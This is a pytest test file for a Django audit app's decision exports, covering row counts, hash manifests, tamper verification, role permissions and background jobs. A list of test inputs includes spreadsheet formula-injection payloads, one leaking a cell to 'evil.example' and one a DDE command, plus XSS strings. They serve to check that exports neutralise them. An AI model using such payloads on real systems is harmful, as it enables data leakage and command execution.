"""Exports of decision searches: the rows of the search, nothing else; a manifest that vouches for
the bytes; formulas neutralised and hostile text intact; large exports as Celery jobs."""
import csv
import hashlib
import io
import json
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.http import QueryDict
from django.utils import timezone
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from audit.filters import DecisionFilter
from core.models import Decision, Outcome
from exports import services as exports
from exports.formats import HEADER, count_rows
from exports.models import ExportRecord
from tests.factories import DecisionFactory, PolicyFactory
from tests.support import wait_until

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def auditor(make_user):
    return make_user("auditor", username="avery")


@pytest.fixture
def auditor_client(client, auditor):
    client.force_login(auditor)
    return client


@pytest.fixture
def export_dir(settings, tmp_path):
    settings.GAVEL_EXPORT_DIR = tmp_path / "exports"
    return settings.GAVEL_EXPORT_DIR


def some_decisions():
    now = timezone.now()
    gateway = PolicyFactory(name="agent_gateway")
    DecisionFactory.create_batch(3, policy=gateway, outcome=Outcome.DENY, reasons=["token budget exceeded"],
                                 effective_mode="enforce", timestamp=now - timedelta(hours=2))
    DecisionFactory.create_batch(2, policy=gateway, outcome=Outcome.WOULD_DENY, reasons=["tool not allowed"],
                                 effective_mode="dry-run", timestamp=now - timedelta(days=2))
    DecisionFactory.create_batch(4, path="gavel/platform_changes/decision", timestamp=now - timedelta(minutes=5))
    return now


def export(client, query="", fmt="csv", **extra):
    """Export a search from the audit page's form; the streamed bytes and their record."""
    response = client.post("/audit/exports/new/", {"query": query, "format": fmt, **extra})
    assert response.status_code == 200, response
    body = b"".join(response.streaming_content)
    return body, ExportRecord.objects.get(pk=response["X-Gavel-Export"])


def rows_in(fmt, body: bytes) -> int:
    return count_rows(fmt, io.BytesIO(body))


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
@pytest.mark.parametrize("query", [
    "",
    "outcome=deny",
    "outcome=would_deny&effective_mode=dry-run",
    "policy=agent_gateway&q=BUDGET",
    "path=gavel/platform_changes",
    "since={since}",
    "outcome=require_approval",
])
def test_exported_rows_are_the_rows_the_search_counts(auditor_client, query, fmt):
    now = some_decisions()
    query = query.format(since=(now - timedelta(days=1)).isoformat().replace("+00:00", "Z"))

    body, record = export(auditor_client, query, fmt)

    searched = DecisionFilter(QueryDict(query), queryset=Decision.objects.all()).qs.count()
    on_the_page = auditor_client.get(f"/audit/?{query}").context["page"].paginator.count
    assert rows_in(fmt, body) == searched == on_the_page == record.row_count
    # The record was finalised once the last byte left: its hash is the hash of what was sent.
    assert record.status == ExportRecord.Status.DONE
    assert record.sha256 == hashlib.sha256(body).hexdigest() and record.size_bytes == len(body)


@pytest.mark.django_db
def test_the_filter_in_words_survives_someone_reading_the_api_schema(auditor_client):
    """Reading /api/v1/schema/ once used to leave django-filter's derived labels as None, so
    every later manifest said "None: Deny"."""
    some_decisions()
    assert auditor_client.get("/api/v1/schema/").status_code == 200
    _, record = export(auditor_client, "outcome=deny&policy=agent_gateway", "csv")
    assert record.readable_filter == "Outcome: Deny; Policy: agent_gateway"


def test_the_manifest_says_what_was_asked_who_asked_and_what_came_out(auditor_client):
    now = some_decisions()
    body, record = export(auditor_client, "outcome=deny&policy=agent_gateway&page=3&bogus=1", "jsonl")

    manifest = json.loads(auditor_client.get(f"/audit/exports/{record.pk}/manifest.json").content)

    assert manifest["filter"]["query"] == "outcome=deny&policy=agent_gateway"  # only the filter's own fields
    assert manifest["filter"]["readable"] == "Outcome: Deny; Policy: agent_gateway"
    assert manifest["row_count"] == 3 and manifest["format"] == "jsonl" and manifest["delivery"] == "stream"
    assert manifest["sha256"] == hashlib.sha256(body).hexdigest()
    assert manifest["exported_by"] == "avery" and manifest["gavel_version"] == exports.gavel_version()
    timestamps = [json.loads(line)["timestamp"] for line in body.decode().splitlines()]
    assert manifest["time_range"] == {"first": timestamps[0], "last": timestamps[-1]}
    assert timestamps == sorted(timestamps) and timestamps[0].startswith(str((now - timedelta(hours=2)).date()))


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_tampered_file_fails_verify_and_the_untampered_one_passes(auditor_client, tmp_path, fmt):
    some_decisions()
    body, record = export(auditor_client, "outcome=deny", fmt)
    file, manifest = tmp_path / record.download_name, tmp_path / "manifest.json"
    file.write_bytes(body)
    manifest.write_bytes(auditor_client.get(f"/audit/exports/{record.pk}/manifest.json").content)

    out = io.StringIO()
    call_command("verify_export", str(file), str(manifest), stdout=out)
    assert "matches" in out.getvalue() and "3 rows" in out.getvalue()

    file.write_bytes(body.replace(b"token budget exceeded", b"token budget is fine!", 1))
    with pytest.raises(CommandError, match="SHA-256 is"):
        call_command("verify_export", str(file), str(manifest))

    # One decision quietly removed: the hash, the size and the row count all disagree.
    lines = body.decode().splitlines(keepends=True)
    file.write_text("".join(lines[:-1]), encoding="utf-8")
    with pytest.raises(CommandError) as refused:
        call_command("verify_export", str(file), str(manifest))
    assert "SHA-256" in str(refused.value) and "has 2 rows, the manifest says 3" in str(refused.value)


def test_verify_export_exits_non_zero_with_a_clear_message(tmp_path):
    """From the shell, with no database at all: anyone given the file and manifest can check them."""
    file, manifest = tmp_path / "x.jsonl", tmp_path / "m.json"
    file.write_bytes(b'{"decision_id":"a"}\n')
    good = {"gavel_export_manifest": 1, "status": "done", "format": "jsonl", "row_count": 1,
            "sha256": hashlib.sha256(file.read_bytes()).hexdigest(), "size_bytes": file.stat().st_size}
    command = [sys.executable, "manage.py", "verify_export", str(file), str(manifest)]
    env = {"DEBUG": "1", "PATH": "/usr/bin:/bin", "DATABASE_URL": "postgres://nobody@127.0.0.1:9/none"}

    manifest.write_text(json.dumps(good))
    assert subprocess.run(command, cwd=ROOT, env=env, capture_output=True, text=True).returncode == 0

    manifest.write_text(json.dumps({**good, "row_count": 2, "sha256": "0" * 64}))
    refused = subprocess.run(command, cwd=ROOT, env=env, capture_output=True, text=True)
    assert refused.returncode != 0
    assert "does NOT match" in refused.stderr and "has 1 rows, the manifest says 2" in refused.stderr


HOSTILE_REASONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "<script>alert('x')</script>",
    "first line\nsecond line\r\nthird",
    'she said "no", twice',
    "\u202eright-to-left override\u200b zero width, emoji \U0001F680, line sep \u2028 para sep \u2029 done",
]


@pytest.mark.django_db
def test_csv_neutralises_formulas_and_hostile_strings_round_trip(auditor_client):
    decision = DecisionFactory(
        decision_id="=1+1", outcome=Outcome.DENY, reasons=HOSTILE_REASONS, user="@SUM(A1:A9)", agent="-2+3",
        resource="\tsheet", action="<img src=x onerror=alert(1)>",
        input={"note": HOSTILE_REASONS[-1], "html": "</td><script>x</script>", "q": "=cmd"},
    )

    body, _ = export(auditor_client, "", "csv")
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))

    assert len(rows) == 1 and list(rows[0]) == HEADER
    row = rows[0]
    # A spreadsheet would run these as formulas: each leaves prefixed with a quote.
    assert row["decision_id"] == "'=1+1" and row["user"] == "'@SUM(A1:A9)" and row["agent"] == "'-2+3"
    assert row["resource"] == "'\tsheet"
    # Everything else comes back exactly: lists and documents are JSON inside their cell.
    assert row["action"] == decision.action
    assert json.loads(row["reasons"]) == HOSTILE_REASONS
    assert json.loads(row["input"]) == decision.input
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


@pytest.mark.django_db
def test_jsonl_keeps_one_decision_per_line_and_hostile_strings_intact(auditor_client):
    hostile = DecisionFactory(reasons=HOSTILE_REASONS, user="=evil", input={"note": HOSTILE_REASONS[-1]})
    DecisionFactory(timestamp=hostile.timestamp + timedelta(seconds=1))

    body, record = export(auditor_client, "", "jsonl")

    text = body.decode("utf-8")
    # Even readers that split on U+2028/2029 (Python's splitlines) see one line per decision.
    assert len(text.splitlines()) == 2 == record.row_count
    first = json.loads(text.splitlines()[0])
    assert first["reasons"] == HOSTILE_REASONS and first["user"] == "=evil"  # data, not a cell: unchanged
    assert first["input"] == {"note": HOSTILE_REASONS[-1]}


@pytest.mark.django_db
def test_an_interrupted_download_is_recorded_as_incomplete_with_no_hash(auditor):
    DecisionFactory.create_batch(120, input={"padding": "x" * 1000})  # well over one 64 KiB chunk
    record = exports.start_export(auditor, "", "jsonl")
    assert record.delivery == ExportRecord.Delivery.STREAM
    chunks = exports.stream_export(record)  # what the streamed response sends
    next(chunks)
    chunks.close()  # the browser went away: the server closes the response, and so its iterator

    record = ExportRecord.objects.get()
    assert record.status == ExportRecord.Status.INCOMPLETE and record.sha256 == ""
    assert 0 < record.row_count < 120
    assert exports.verify(Path(__file__), exports.manifest(record)) == [
        "the export did not finish (status 'incomplete'), so there is nothing to verify"]


@pytest.mark.django_db
@pytest.mark.parametrize("data, message", [
    ({"query": "since=last+tuesday", "format": "csv"}, "Fix the filters: since"),
    ({"query": "outcome=maybe", "format": "csv"}, "Fix the filters: outcome"),
    ({"query": "", "format": "xlsx"}, "Unknown format 'xlsx'"),
    ({"query": "q=%00", "format": "csv"}, "NUL character"),
])
def test_bad_input_is_refused_and_records_nothing(auditor_client, data, message):
    response = auditor_client.post("/audit/exports/new/", data)
    assert response.status_code == 400 and message in response.content.decode()
    assert not ExportRecord.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize("role", ["security_admin", "reviewer", "policy_author", "compliance_officer"])
def test_only_roles_allowed_to_export_may_export(client, make_user, export_dir, role):
    DecisionFactory()
    user = make_user(role)
    client.force_login(user)
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
    finished = exports.run_job(exports.start_export(make_user("auditor"), "", "csv", as_job=True).pk)

    assert client.post("/audit/exports/new/", {"query": "", "format": "csv"}).status_code == 403
    assert client.get(f"/audit/exports/{finished.pk}/download/").status_code == 403
    assert api.post("/api/v1/exports/", {"query": "", "format": "csv"}, format="json").status_code == 403
    assert api.get(f"/api/v1/exports/{finished.pk}/download/").status_code == 403
    assert ExportRecord.objects.count() == 1
    # Security admins oversee exports: they see the record and its manifest, not the data.
    oversees = 200 if role == "security_admin" else 403
    assert client.get("/audit/exports/").status_code == oversees
    assert client.get(f"/audit/exports/{finished.pk}/manifest.json").status_code == oversees


@pytest.mark.django_db
def test_the_audit_page_offers_the_export_of_its_search_to_auditors_only(client, make_user):
    DecisionFactory(outcome=Outcome.DENY)
    client.force_login(make_user("auditor"))
    form = client.get("/audit/", {"outcome": "deny", "q": ""}).content.decode()
    assert 'data-testid="export-form"' in form and 'name="query" value="outcome=deny' in form
    client.force_login(make_user("reviewer"))
    assert 'data-testid="export-form"' not in client.get("/audit/").content.decode()


@pytest.mark.django_db
def test_a_job_page_polls_its_progress_until_done_then_offers_the_file(auditor_client, auditor, export_dir):
    DecisionFactory.create_batch(3)
    record = exports.start_export(auditor, "", "jsonl", as_job=True)  # not committed: no worker runs it here

    running = auditor_client.get(f"/audit/exports/{record.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert 'hx-trigger="every 1s"' in running and "<progress" in running and "0 of 3 rows" in running

    exports.run_job(record.pk)
    done = auditor_client.get(f"/audit/exports/{record.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert "hx-trigger" not in done and "<progress" not in done
    assert f"/audit/exports/{record.pk}/download/" in done and "3 rows" in done
    assert exports.run_job(record.pk).sha256 == ExportRecord.objects.get(pk=record.pk).sha256  # idempotent


@pytest.mark.django_db
def test_a_job_that_cannot_write_its_file_fails_with_the_reason(auditor_client, auditor, settings, tmp_path):
    DecisionFactory()
    settings.GAVEL_EXPORT_DIR = tmp_path / "not-a-directory"
    settings.GAVEL_EXPORT_DIR.write_text("a file where the export directory should be")

    record = exports.run_job(exports.start_export(auditor, "", "csv", as_job=True).pk)

    assert record.status == ExportRecord.Status.FAILED and "not-a-directory" in record.error
    assert record.sha256 == "" and list(tmp_path.iterdir()) == [settings.GAVEL_EXPORT_DIR]
    status = auditor_client.get(f"/audit/exports/{record.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert "hx-trigger" not in status and "Failed" in status
    assert auditor_client.get(f"/audit/exports/{record.pk}/download/").status_code == 404


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("how", ["asked as a job", "over the streaming threshold"])
def test_a_job_writes_a_file_whose_manifest_verifies(client, make_user, celery_worker, export_dir, settings,
                                                     tmp_path, how):
    DecisionFactory.create_batch(5, outcome=Outcome.DENY, reasons=["=bad", "ok"])
    DecisionFactory.create_batch(2)
    client.force_login(make_user("auditor"))
    extra = {"as_job": "1"} if how == "asked as a job" else {}
    settings.GAVEL_EXPORT_STREAM_MAX_ROWS = 1000 if extra else 4

    started = client.post("/audit/exports/new/", {"query": "outcome=deny", "format": "csv", **extra})

    record = ExportRecord.objects.get()
    assert started.status_code == 302 and started.url == f"/audit/exports/{record.pk}/"
    assert record.delivery == ExportRecord.Delivery.JOB and record.expected_rows == 5
    wait_until(lambda: ExportRecord.objects.get(pk=record.pk).status == ExportRecord.Status.DONE,
               message="the export job to finish")
    file, manifest = tmp_path / "download.csv", tmp_path / "manifest.json"
    download = client.get(f"/audit/exports/{record.pk}/download/")
    file.write_bytes(b"".join(download.streaming_content))
    manifest.write_bytes(client.get(f"/audit/exports/{record.pk}/manifest.json").content)
    assert json.loads(manifest.read_text())["row_count"] == 5 == rows_in("csv", file.read_bytes())
    call_command("verify_export", str(file), str(manifest), stdout=io.StringIO())
    assert not list(export_dir.glob("*.part"))


@pytest.mark.django_db
def test_the_api_lists_every_export_and_runs_jobs(make_user, export_dir):
    DecisionFactory.create_batch(2, outcome=Outcome.DENY)
    DecisionFactory()
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=make_user('auditor')).key}")

    started = api.post("/api/v1/exports/", {"query": "outcome=deny", "format": "jsonl"}, format="json")
    assert started.status_code == 202 and started.json()["status"] == "queued"
    exports.run_job(started.json()["id"])  # what the worker does once the request has committed
    streamed = api.post("/api/v1/exports/", {"query": "", "format": "csv", "as_job": False}, format="json")
    assert rows_in("csv", b"".join(streamed.streaming_content)) == 3

    listed = api.get("/api/v1/exports/").json()["results"]
    assert [(r["delivery"], r["status"], r["row_count"]) for r in listed] == [("stream", "done", 3),
                                                                             ("job", "done", 2)]
    job = listed[1]
    download = b"".join(api.get(f"/api/v1/exports/{job['id']}/download/").streaming_content)
    assert hashlib.sha256(download).hexdigest() == job["manifest"]["sha256"]
    refused = api.post("/api/v1/exports/", {"query": "until=yesterday", "format": "jsonl"}, format="json")
    assert refused.status_code == 400 and "until" in str(refused.json()["query"])


def test_every_auditor_may_download_any_job_export_and_nobody_else(client, make_user, export_dir):
    """The stated rule (README, "Exports"): any auditor could export the same search, so every
    auditor may download any export's file; security admins see records and manifests only."""
    DecisionFactory.create_batch(2)
    owner = make_user("auditor")
    record = exports.run_job(exports.start_export(owner, "", "csv", as_job=True).pk)
    expected = record.sha256

    def api_as(user):
        api = APIClient()
        api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
        return api.get(f"/api/v1/exports/{record.pk}/download/")

    def page_as(user):
        client.force_login(user)
        return client.get(f"/audit/exports/{record.pk}/download/")

    for user in (owner, make_user("auditor")):
        for response in (api_as(user), page_as(user)):
            assert response.status_code == 200
            assert hashlib.sha256(b"".join(response.streaming_content)).hexdigest() == expected
    for role in ("security_admin", "policy_author", "reviewer", "compliance_officer"):
        user = make_user(role)
        assert (api_as(user).status_code, page_as(user).status_code) == (403, 403), role
